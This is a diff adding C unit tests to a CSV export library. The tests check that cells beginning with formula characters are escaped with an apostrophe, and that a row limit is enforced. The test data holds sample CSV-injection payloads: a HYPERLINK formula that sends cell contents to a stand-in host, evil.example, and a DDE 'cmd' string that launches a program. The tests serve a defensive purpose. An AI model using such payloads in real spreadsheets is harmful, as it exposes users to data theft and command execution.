@@ -638,6 +638,71 @@ test_write_csv_file (void)
   g_assert_cmpint (g_rmdir (dir), ==, 0);
 }
 
+/* A cell that Excel or WPS would run as a formula (=, +, -, @, a tab or
+ * a carriage return first) is written with an apostrophe before it, which
+ * both show as text; a plain number such as -1250.00 stays a number. */
+static void
+test_write_csv_formulas (void)
+{
+  static const char * const cells[][2] = {
+    { "=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")" },
+    { "+86 138 0101 2345", "'+86 138 0101 2345" },
+    { "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
+    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+    { "\t=1+1", "'\t=1+1" },
+    { "-1250.00", "-1250.00" },
+    { "-12", "-12" },
+    { "+", "'+" },
+    { "-", "'-" },
+    { "王建国", "王建国" },
+    { "", "" },
+  };
+  g_autoptr(GPtrArray) rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
+  g_autoptr(UdTable) table = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("test-csv-XXXXXX", NULL);
+  g_autofree char *path = g_build_filename (dir, "导出.csv", NULL);
+
+  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
+    {
+      GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
+
+      g_ptr_array_add (row, g_strdup ("x"));
+      g_ptr_array_add (row, g_strdup (cells[i][0]));
+      g_ptr_array_add (rows, row);
+    }
+  g_assert_true (ud_table_write_csv (path, rows, &error));
+  g_assert_no_error (error);
+
+  table = ud_table_read_file (path, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (table->rows->len, ==, G_N_ELEMENTS (cells));
+  /* A carriage return first, written inside quotes (the reader turns it
+   * into a line feed). */
+  {
+    g_autoptr(GPtrArray) more = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
+    GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
+    g_autofree char *contents = NULL;
+
+    g_ptr_array_add (row, g_strdup ("\r=1+1"));
+    g_ptr_array_add (more, row);
+    g_assert_true (ud_table_write_csv (path, more, &error));
+    g_assert_no_error (error);
+    g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
+    g_assert_cmpstr (contents, ==, "\xEF\xBB\xBF\"'\r=1+1\"\r\n");
+  }
+  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
+    {
+      GPtrArray *row = g_ptr_array_index (table->rows, i);
+      const char *cell = row->len > 1 ? g_ptr_array_index (row, 1) : "";
+
+      g_assert_cmpstr (cell, ==, cells[i][1]);
+    }
+
+  g_unlink (path);
+  g_rmdir (dir);
+}
+
 static void
 test_write_csv_error (void)
 {
@@ -710,6 +775,24 @@ test_table_cancelled (void)
   g_assert_null (table);
 }
 
+/* The rows kept are bounded in CSV too. */
+static void
+test_too_many_rows (void)
+{
+  g_autoptr(GString) text = g_string_new ("姓名,身份证号,工作单位\n");
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(UdTable) table = NULL;
+  g_autoptr(GError) error = NULL;
+
+  for (guint i = 0; i < UD_IO_MAX_ROWS + 1; i++)
+    g_string_append (text, "a\n");
+  bytes = g_bytes_new (text->str, text->len);
+  table = ud_table_read_bytes (bytes, "rows.csv", &error);
+  g_assert_null (table);
+  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_TOO_LARGE);
+  g_assert_nonnull (strstr (error->message, "rows"));
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -736,6 +819,8 @@ main (int   argc,
   g_test_add_func ("/csv/write/round-trip", test_round_trip);
   g_test_add_func ("/csv/write/file", test_write_csv_file);
   g_test_add_func ("/csv/write/error", test_write_csv_error);
+  g_test_add_func ("/csv/write/formulas", test_write_csv_formulas);
+  g_test_add_func ("/table/too-many-rows", test_too_many_rows);
   g_test_add_func ("/table/errors", test_table_errors);
   g_test_add_func ("/table/cancelled", test_table_cancelled);
 
